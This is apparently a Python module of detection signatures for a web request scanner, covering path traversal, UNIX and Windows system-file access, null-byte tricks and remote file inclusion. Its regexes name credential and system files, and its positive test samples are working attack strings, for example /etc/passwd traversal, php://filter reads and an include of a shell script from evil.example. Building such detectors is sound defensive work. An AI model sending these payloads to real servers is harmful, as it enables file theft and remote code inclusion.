"""Files that are none of a client's business: by traversal, by inclusion, by name."""

from pipeline.signatures.signature import PAYLOAD, Signature

FILES = (
    Signature(
        id="traversal-deep",
        family="traversal",
        title="Two or more steps up out of the folder",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=("url", "path", "args", "header", "referer"),
        pattern=r"(?:\.{2,3}[;\x00]?[/\\]+(?:\.[/\\]+)*){2,}",
        positive=(
            "/get?file=../../etc/x",
            "/a/..%2f..%2f..%2fx",
            "/%252e%252e/%252e%252e/x",
            "/..%c0%af..%c0%afx",
            "/i?f=..\\..\\boot.ini",
            "/get?foo=.../.../x",
        ),
        negative=("/a/b/../c", "/a...b/...c"),
        references=("https://owasp.org/www-community/attacks/Path_Traversal",),
    ),
    Signature(
        id="traversal-step",
        family="traversal",
        title="A step up out of the folder, which browsers never send",
        severity="low",
        confidence="medium",
        techniques=("T1595.002", "T1083"),
        where=("url", "path", "args"),
        pattern=r"(?:^|[/\\=:&,])\.\.(?:[;\x00])?(?:[/\\]|$|&)|/\.\.;|[/\\]\.{2,}[/\\]",
        positive=("/a/../b", "/i?f=../x", "/%2e%2e/x", "/manager/..;/html"),
        negative=("/a..b", "/i?q=wait..", "/v1...v2"),
        false_positives="links that a program joined without making them plain; a revision range in a code browser",
    ),
    Signature(
        id="traversal-unix",
        family="traversal",
        title="A file of a UNIX system",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=("url", *PAYLOAD),
        pattern=(
            r"/?\betc[/\\][/\\.]*(?:passwd|shadow|group|gshadow|hosts|hostname|issue|motd|fstab|mtab|crontab|"
            r"cron\.\w+|sudoers|ssh|ssl|profile|bash\.bashrc|environment|resolv\.conf|nginx|apache2?|httpd|"
            r"php\w*|mysql|my\.cnf|postgresql|redis|services|protocols|networks|subuid|subgid|security|pam\.d|"
            r"init\.d|rc\.\w+|redhat-release|os-release|lsb-release|master\.passwd|vsftpd|proftpd|exports|"
            r"inetd|syslog|hosts\.\w+|tomcat\w*|kubernetes)\b|/proc/(?:self|version|cmdline|environ|mounts|"
            r"net|cpuinfo|meminfo|sched_debug|\d+)\b|/var/(?:log|mail|spool|lib|www|run|backups)/[\w.-]|"
            r"/(?:usr|opt)/(?:local/)?(?:\w+/)*(?:httpd|nginx|php|my|server|catalina)\.(?:conf|ini|cnf|xml|"
            r"policy)|/root/\.\w|/home/[^/&]+/\.\w|\b(?:access|error)[._-]log\b.*\.\./|>+\s*/(?:tmp|dev|var)/|"
            r"/dev/(?:tcp|udp|shm|null|cmdb)\b"
        ),
        plain=True,
        positive=(
            "/i?f=/etc/passwd%00",
            "/%2fetc%2fpasswd",
            "/i?f=/proc/self/environ",
            "/i?f=/etc/./hosts",
            "/get?code=>/tmp/curl",
        ),
        negative=("/etchings/hosts", "/blog/proc/selfish", "/i?q=fetch+passwd"),
        false_positives="documentation that is published under such a path",
        references=("https://owasp.org/www-community/attacks/Path_Traversal",),
    ),
    Signature(
        id="traversal-windows",
        family="traversal",
        title="A file of a Windows system",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=("url", *PAYLOAD),
        pattern=(
            r"\b(?:win|boot|system|desktop|php)\.ini\b|\b(?:windows|winnt)[/\\][/\\]*(?:win|system|php|"
            r"system32|repair|panther|debug|temp)\b|\b[a-z]:[/\\][/\\]*(?:windows|winnt|boot\.ini|inetpub|"
            r"users|program|xampp|wamp|apache)|\bsystem32[/\\]|[/\\]inetpub[/\\]|\bunattend\.xml\b|"
            r"\bweb\.config\b.*\.\.|\bglobal\.asax\b|[/\\]repair[/\\]sam\b|\bntuser\.dat\b"
        ),
        plain=True,
        positive=(
            "/i?f=c:\\windows\\win.ini",
            "/c:/win.ini",
            "/i?op=../../boot.ini%00",
            "/scripts/..%5c../winnt/system32/cmd.exe",
        ),
        negative=("/windows/install", "/i?q=c:/"),
    ),
    Signature(
        id="traversal-null",
        family="traversal",
        title="A null byte, which ends a file's name in C",
        severity="medium",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=("line",),
        pattern=r"^(?:/|https?://).*(?:%(?:25)*00|\\x00|\\u0000)",
        positive=("/i?f=x.php%00.jpg", "/i?f=x%2500"),
        negative=("/i?f=100%25", "/i?p=%2e00", "Gh0st\\xad\\x00\\x00"),
    ),
    Signature(
        id="rfi-remote",
        family="rfi",
        title="A script on another server where a name belongs",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1105"),
        where=("args", "referer"),
        pattern=(
            r"=\s*(?:https?|ftps?|\\\\|//)[:/]*[^\s&?]*\.(?:php\d?|phtml|inc|asp|aspx|jsp|cgi|pl|sh|txt|dat|"
            r"gif|ico)\?*\s*(?:&|$)|=\s*(?:https?|ftps?)://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[/:]|"
            r"=\s*(?:https?|ftps?)://\[[0-9a-f:.]+\]|=\s*(?:https?|ftps?)://[^&?]*\?+(?:&|$)|(?:include|"
            r"require|_path|dir_?root|root_dir|abs\w*path|basepath|includedir|"
            r"mosconfig_\w+)\w*(?:\[\w*\])?=\s*(?:https?|ftps?):"
        ),
        positive=(
            "/i?page=http://evil.example/shell.txt?",
            "/i?p=http://203.0.113.5/x",
            "/i?mosConfig_absolute_path=http://x.example",
        ),
        negative=("/login?next=https://shop.example/cart", "/share?url=https://blog.example/2024/post"),
        false_positives="proxies for images and feeds that take the address as a parameter",
        references=("https://owasp.org/www-project-web-security-testing-guide/",),
    ),
    Signature(
        id="rfi-wrapper",
        family="rfi",
        title="A scheme that reads local files, archives or runs programs",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=PAYLOAD,
        pattern=(
            r"\b(?:php|phar|zip|expect|glob|ogg|rar|ssh2|zlib|compress\.(?:zlib|bzip2)|local_file|file|netdoc|"
            r"jar|dict|gopher|tftp|ldaps?|sftp|imap|pop3|smtp|irc|ircs|jdbc|rmi|view-source)://|\bjar:(?:file|"
            r"https?):|\bphp://(?:input|filter|memory|temp|fd)|\bfile:/|\bdata:[\w/+-]*(?:;[\w=-]+)*,|"
            r"=\s*data:\w+/\w+"
        ),
        plain=True,
        positive=(
            "/i?f=php://filter/convert.base64-encode/resource=x",
            "/i?x=url:file:///etc/passwd",
            "/i?x=jar:file:/a.jar!/b",
            "/i?f=compress.zlib://x",
        ),
        negative=("/i?u=https://a.example", "/i?q=profile://x"),
    ),
)
